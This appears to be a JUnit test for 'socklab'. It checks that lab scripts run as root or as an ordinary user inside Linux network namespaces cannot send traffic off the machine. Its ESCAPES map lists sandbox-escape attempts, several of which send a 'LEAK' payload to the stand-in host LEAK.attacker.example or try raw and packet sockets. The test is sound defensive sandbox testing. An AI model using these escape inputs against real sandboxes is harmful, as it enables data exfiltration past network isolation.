package socklab.lab;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.condition.EnabledOnOs;
import org.junit.jupiter.api.condition.OS;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.api.parallel.Execution;
import org.junit.jupiter.api.parallel.ExecutionMode;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/**
 * Labs that try to leave the machine, in a network where a sniffer sees each frame that leaves: as root and as an
 * ordinary user, in a network of their own and with the policy alone.
 */
@EnabledOnOs(value = OS.LINUX, disabledReason = "only Linux has network namespaces")
@Timeout(value = 300, unit = TimeUnit.SECONDS, threadMode = Timeout.ThreadMode.SEPARATE_THREAD)
class LabEscapeTest {
    private static final Path RESOURCES = Path.of("src/test/resources/socklab/escape");
    private static final String RUNTIME_JARS = ".*/(jline|jansi|picocli|commonmark|gson)[^/]*\\.jar";
    private static final List<String> ORDINARY_USER =
            List.of("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups");

    /** A fixed port that another program of the machine holds. */
    private static final String OWN_NETWORK = "s = open tcp\ns.bind 127.0.0.1 5555\n=> 0\n";

    private static final Map<String, String> ESCAPES = Map.ofEntries(
            Map.entry("name", "s = open udp\ns.sendto LEAK.attacker.example 9 x\n"),
            Map.entry("connect-name", "s = open tcp\ns.connect LEAK.attacker.example 80\n"),
            Map.entry("relay", "/relay udp 0 LEAK.attacker.example 53\n"),
            Map.entry("device", "s = open udp\ns.setsockopt SO_BINDTODEVICE eth0\ns.sendto 127.0.0.1 53 LEAK\n"),
            Map.entry("index", "s = open udp\ns.setsockopt SO_BINDTOIFINDEX 2\ns.sendto 127.0.0.1 53 LEAK\n"),
            Map.entry("source", "s = open udp6\ns.setsockopt IPV6_PKTINFO :: 2\ns.sendto ::1 53 LEAK\n"),
            Map.entry("link-local", "s = open udp6\ns.sendto fe80::1%2 53 LEAK\n"),
            Map.entry("datagram", "s = open udp\ns.sendto 192.0.2.1 53 LEAK\n"),
            Map.entry("datagram6", "s = open udp6\ns.sendto 2001:db8::1 53 LEAK\n"),
            Map.entry("stream", "s = open tcp\ns.connect 192.0.2.1 80\n"),
            Map.entry("fast-open", "s = open tcp\ns.sendto 192.0.2.1 80 LEAK MSG_FASTOPEN\n"),
            Map.entry("broadcast", "s = open udp\ns.setsockopt SO_BROADCAST 1\ns.sendto 192.0.2.255 53 LEAK\n"),
            Map.entry("multicast", "s = open udp\ns.sendto 239.1.2.3 53 LEAK\n"),
            Map.entry("join", "s = open udp\ns.setsockopt IP_ADD_MEMBERSHIP 239.1.2.3 192.0.2.2\n"),
            Map.entry("raw", "s = socket AF_INET SOCK_RAW IPPROTO_ICMP\ns.sendto 192.0.2.1 0 LEAK\n"),
            Map.entry("packet", "s = socket 17 3 768\n"),
            Map.entry("listen", "l = open tcp\nl.bind 0.0.0.0 0\nl.listen\nl.accept\n"));

    @TempDir
    private Path folder;

    @Execution(ExecutionMode.CONCURRENT)
    @ParameterizedTest(name = "user {0}, network of its own: {1}")
    @CsvSource({"root, true", "root, false", "nobody, true", "nobody, false"})
    void nothingLeaves(String user, boolean ownNetwork) throws Exception {
        boolean root = "root".equals(System.getProperty("user.name"));
        assumeTrue(root || user.equals("nobody"), "only root can try it as root");
        prepare();
        List<String> command = new ArrayList<>(user.equals("nobody") && root ? ORDINARY_USER : List.of());
        command.add("unshare");
        command.addAll(user.equals("nobody") ? List.of("--map-root-user") : List.of());
        command.addAll(List.of("--net", "--mount", "sh"));
        assumeTrue(
                run(Stream.concat(command.stream(), Stream.of("-c", "true")).toList()) == 0,
                "this machine allows no network namespace for " + user);

        command.add("network.sh");
        command.addAll(ownNetwork ? userNamespace(user) : List.of("setpriv", "--bounding-set=-sys_admin"));
        command.addAll(socklabCheck());
        int exit = run(command);

        String said = Files.readString(folder.resolve("output"));
        assertThat(exit).as(said).isZero();
        assertThat(said)
                .contains((ownNetwork ? 1 : 0) + " passed, " + (ESCAPES.size() + (ownNetwork ? 0 : 1)) + " failed");
        List<String> frames = Files.readAllLines(folder.resolve("frames"));
        assertThat(frames).as("the sniffer works: it sees the control lookup").isNotEmpty();
        assertThat(frames).allMatch(frame -> frame.contains("control"));
    }

    private static List<String> userNamespace(String user) {
        return user.equals("nobody") ? List.of("unshare", "--map-current-user", "--keep-caps", "--") : List.of();
    }

    /** Copies what an ordinary user must be able to read to a folder that is open to everyone. */
    private void prepare() throws IOException, InterruptedException {
        Path labs = Files.createDirectory(folder.resolve("labs"));
        Files.writeString(labs.resolve("own-network.lab"), OWN_NETWORK);
        for (Map.Entry<String, String> escape : ESCAPES.entrySet()) {
            Files.writeString(labs.resolve(escape.getKey() + ".lab"), escape.getValue());
        }
        Files.copy(RESOURCES.resolve("network.sh"), folder.resolve("network.sh"));
        Files.copy(RESOURCES.resolve("sniffer.py"), folder.resolve("sniffer.py"));
        Path jars = Files.createDirectory(folder.resolve("jars"));
        for (String element : System.getProperty("java.class.path").split(":")) {
            if (element.matches(RUNTIME_JARS)) {
                Files.copy(Path.of(element), jars.resolve(Path.of(element).getFileName()));
            }
        }
        assertThat(run(List.of(
                        "cp", "-r", Path.of("target/classes").toAbsolutePath().toString(), "classes")))
                .isZero();
        assertThat(run(List.of("chmod", "-R", "a+rX", "."))).isZero();
        Files.setPosixFilePermissions(folder, PosixFilePermissions.fromString("rwxrwxrwx"));
    }

    private static List<String> socklabCheck() {
        return List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "--enable-native-access=ALL-UNNAMED",
                "-XX:TieredStopAtLevel=1",
                "-cp",
                "classes:jars/*",
                "socklab.Main",
                "check",
                "--timeout",
                "5s",
                "labs");
    }

    private int run(List<String> command) throws IOException, InterruptedException {
        ProcessBuilder builder = new ProcessBuilder(command)
                .directory(folder.toFile())
                .redirectErrorStream(true)
                .redirectOutput(folder.resolve("output").toFile());
        builder.environment().put("XDG_STATE_HOME", folder.resolve("state").toString());
        builder.environment().remove("JAVA_TOOL_OPTIONS");
        Process process = builder.start();
        try {
            return process.waitFor();
        } finally {
            process.descendants().forEach(ProcessHandle::destroyForcibly);
            process.destroyForcibly();
        }
    }
}
